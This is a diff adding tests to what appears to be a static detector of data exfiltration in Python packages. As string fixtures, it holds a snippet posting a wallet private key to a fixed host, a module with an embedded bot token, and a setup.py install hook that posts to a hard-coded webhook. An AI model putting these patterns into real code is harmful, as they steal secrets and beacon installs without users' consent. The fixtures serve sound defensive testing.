@@ -180,3 +180,92 @@ def test_request_to_a_testing_host_on_load_is_a_probe() -> None:
 def test_request_to_an_ordinary_host_on_load_is_no_probe() -> None:
     source = 'import requests\nrequests.get("https://api.example.invalid/v1/ping")\n'
     assert not matching(analyze(source), "dataExfiltration")
+
+
+# Assembled so that no token-shaped literal sits in the repository.
+BOT_TOKEN = "1234567890:" + "AA" + "x" * 33
+BOT_REPORTER = f"""\
+import requests
+
+TOKEN = "{BOT_TOKEN}"
+
+def notify(text):
+    url = f"https://chat.example.invalid/bot{{TOKEN}}/sendMessage"
+    requests.post(url, data={{"chat_id": 1, "text": text}})
+"""
+
+
+def test_module_posting_with_an_embedded_bot_token_warns() -> None:
+    found = matching(analyze(BOT_REPORTER), "dataExfiltration", 3)
+    assert found and found[0].props["source"] == ["embedded-bot-token"]
+    assert found[0].props["action"] == "warn"
+
+
+def test_bot_token_read_from_the_user_is_no_finding() -> None:
+    source = BOT_REPORTER.replace(f'"{BOT_TOKEN}"', 'os.environ["BOT_TOKEN"]')
+    source = "import os\n" + source
+    assert not matching(analyze(source), "dataExfiltration")
+
+
+WALLET_DRAIN = """\
+import requests
+
+def check(private_key):
+    payload = [{"key", private_key}]
+    requests.post("https://api.example.invalid/tron", payload)
+
+def address(account):
+    requests.get(f"https://api.example.invalid/send?text={account.key.hex()}", timeout=2)
+"""
+
+
+def test_private_key_sent_to_a_fixed_host() -> None:
+    result = analyze(WALLET_DRAIN)
+    found = matching(result, "dataExfiltration", 5, source=["wallet-secret"])
+    assert found and found[0].props["detail"] == "private_key"
+    assert found[0].top_level is False
+    assert matching(result, "dataExfiltration", 8, detail="account.key.hex")
+
+
+WALLET_RPC = """\
+import requests
+from eth_account import Account
+
+def send(rpc_url, private_key, tx):
+    signed = Account.sign_transaction(tx, private_key)
+    requests.post(rpc_url, json={"method": "eth_sendRawTransaction", "params": [signed.raw]})
+    requests.get("https://api.example.invalid/balance", params={"address": tx["from"]})
+"""
+
+
+def test_signing_with_a_key_and_sending_the_signature_is_no_theft() -> None:
+    assert not matching(analyze(WALLET_RPC), "dataExfiltration")
+
+
+WEBHOOK = "https://discord.com/api/" + "webhooks/123/inert-fixture-token"
+INSTALL_COUNTER = f"""\
+import json, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        data = json.dumps({{"content": "installed"}}).encode()
+        req = urllib.request.Request("{WEBHOOK}", data=data)
+        urllib.request.urlopen(req, timeout=10)
+
+setup(name="x", cmdclass={{"install": PostInstall}})
+"""
+
+
+def test_install_command_posting_to_a_hard_coded_webhook_is_a_beacon() -> None:
+    result = analyze(INSTALL_COUNTER, "setup.py")
+    found = matching(result, "dataExfiltration", 10, source=["load-time-probe"])
+    assert found and found[0].props["url"] == WEBHOOK
+    assert found[0].top_level is True
+
+
+def test_same_webhook_in_a_function_nobody_calls_on_load_is_no_probe() -> None:
+    result = analyze(INSTALL_COUNTER, "pkg/notify.py")
+    assert not matching(result, "dataExfiltration")
